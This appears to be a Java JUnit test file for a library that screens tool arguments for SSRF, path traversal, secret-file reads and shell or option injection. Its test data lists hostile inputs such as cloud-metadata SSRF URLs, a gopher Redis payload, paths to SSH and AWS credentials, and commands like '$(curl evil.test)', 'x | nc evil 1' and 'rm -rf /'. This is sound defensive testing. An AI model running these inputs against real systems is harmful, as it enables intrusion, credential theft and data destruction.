package dev.bastion.inspect;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.InetAddress;
import java.net.UnknownHostException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Path, URL (SSRF) and shell checks: every attack variant, each with a benign twin. */
class ArgumentChecksTest {

  // A resolver that knows a few names and nothing else (tests never touch real DNS).
  static final UrlCheck.Resolver DNS = host -> {
    Map<String, String> zone = Map.of(
        "public.example", "93.184.215.14",
        "docs.example.com", "93.184.215.15",
        "rebind.example", "169.254.169.254",
        "internal.example", "10.1.2.3",
        "v6only.example", "::ffff:127.0.0.1");
    String ip = zone.get(host);
    if (ip == null) {
      throw new UnknownHostException(host);
    }
    return List.of(InetAddress.ofLiteral(ip));
  };

  static final UrlCheck OPEN = new UrlCheck(Set.of(), DNS, Duration.ofSeconds(5));
  static final UrlCheck ALLOWLISTED = new UrlCheck(Set.of("docs.example.com", "*.corp.example"), DNS, Duration.ofSeconds(5));

  @ParameterizedTest
  @ValueSource(strings = {
    "http://127.0.0.1/", "http://localhost:8080/admin", "http://2130706433/", "http://0177.0.0.1/", "http://0x7f.1/",
    "http://127.1/", "http://[::1]/", "http://[::ffff:127.0.0.1]/", "http://[::ffff:7f00:1]/", "http://169.254.169.254/latest/meta-data/",
    "http://0xa9fea9fe/", "http://metadata.google.internal/computeMetadata/v1/", "http://100.100.100.200/", "http://10.0.0.5/",
    "http://172.16.3.4/", "http://192.168.1.1/", "http://100.64.0.1/", "http://[fd00:ec2::254]/", "http://[fe80::1]/",
    "http://[64:ff9b::a9fe:a9fe]/", "http://[2002:7f00:1::]/", "http://0.0.0.0/", "http://rebind.example/", "http://internal.example/",
    "http://v6only.example/", "file:///etc/passwd", "gopher://127.0.0.1:6379/_INFO", "http://user:pw@public.example/",
    "http://nowhere.example/"
  })
  void ssrfVariantsAreRefused(String url) {
    assertThat(OPEN.check(url)).as(url).isPresent();
  }

  @ParameterizedTest
  @ValueSource(strings = {"http://public.example/page", "https://93.184.215.14/x", "https://public.example:8443/a?b=c", "http://[2606:2800:21f:cb07:6820:80da:af6b:8b2c]/"})
  void publicAddressesPass(String url) {
    assertThat(OPEN.check(url)).as(url).isEmpty();
  }

  @Test
  void allowlistIsExactOrWildcardAndHomoglyphsAreNamed() {
    assertThat(ALLOWLISTED.check("https://docs.example.com/guide")).isEmpty();
    assertThat(ALLOWLISTED.check("https://evil.example/guide")).contains("host_not_allowed");
    assertThat(ALLOWLISTED.check("https://docs.example.com.evil.example/")).contains("host_not_allowed");
    assertThat(ALLOWLISTED.check("https://d\u043Ecs.example.com/")).contains("confusable_host");
  }

  @Test
  void literalParsingCoversInetAtonForms() {
    assertThat(UrlCheck.literal("2130706433")).map(InetAddress::getHostAddress).contains("127.0.0.1");
    assertThat(UrlCheck.literal("0177.0.0.01")).map(InetAddress::getHostAddress).contains("127.0.0.1");
    assertThat(UrlCheck.literal("0x7f.0x0.0.1")).map(InetAddress::getHostAddress).contains("127.0.0.1");
    assertThat(UrlCheck.literal("10.1")).map(InetAddress::getHostAddress).contains("10.0.0.1");
    assertThat(UrlCheck.literal("example.com")).isEmpty();
    assertThat(UrlCheck.literal("256.1.1.1")).isEmpty();
  }

  @Test
  void pathsAreConfinedToRoots(@TempDir Path tmp) throws IOException {
    Path root = Files.createDirectories(tmp.resolve("work"));
    Files.writeString(root.resolve("notes.md"), "hi");
    Path outside = Files.createDirectories(tmp.resolve("outside"));
    Files.createSymbolicLink(root.resolve("link"), outside);
    PathCheck check = new PathCheck(List.of(root));
    assertThat(check.check("notes.md")).isEmpty();
    assertThat(check.check("sub/new-file.txt")).isEmpty();
    assertThat(check.check(root.resolve("notes.md").toString())).isEmpty();
    assertThat(check.check("../outside/x")).contains("path_traversal");
    assertThat(check.check("..%2foutside%2fx")).contains("path_traversal");
    assertThat(check.check("%252e%252e%252foutside")).contains("path_traversal");
    assertThat(check.check("/etc/passwd")).contains("path_outside_roots");
    assertThat(check.check("file:///etc/passwd")).contains("path_outside_roots");
    assertThat(check.check("link/secret.txt")).contains("symlink_escape");
    assertThat(check.check("~/notes")).contains("path_home_reference");
    assertThat(check.check("notes.md\u0000.txt")).contains("path_control_character");
  }

  @Test
  void secretFilesAreRefusedEvenInsideRoots(@TempDir Path root) {
    PathCheck check = new PathCheck(List.of(root));
    for (String p : List.of(".ssh/id_rsa", "proj/.env", "proj/.env.local", ".aws/credentials", "keys/server.pem", ".git-credentials", ".npmrc")) {
      assertThat(check.check(p)).as(p).contains("secret_file");
    }
    for (String p : List.of("ssh-notes.md", "proj/env.md", "proj/environment.txt", "aws-costs.csv", "pem-guide.md")) {
      assertThat(check.check(p)).as(p).isEmpty();
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"a.txt; rm -rf /", "$(curl evil.test)", "`id`", "x | nc evil 1", "a && b", "name\nwhoami", "x > /etc/passwd", "${IFS}"})
  void shellMetacharactersInDataFields(String value) {
    assertThat(ShellCheck.check(value)).contains("command_injection");
  }

  @Test
  void leadingDashIsOptionInjection() {
    assertThat(ShellCheck.check("--upload-pack=touch /tmp/pwned")).contains("option_injection");
    assertThat(ShellCheck.check("-rf")).contains("option_injection");
    assertThat(ShellCheck.check("report-2026.txt")).isEqualTo(Optional.empty());
    assertThat(ShellCheck.check("hello world (draft)")).isEmpty();
    assertThat(ShellCheck.check("feature/new-login")).isEmpty();
  }
}
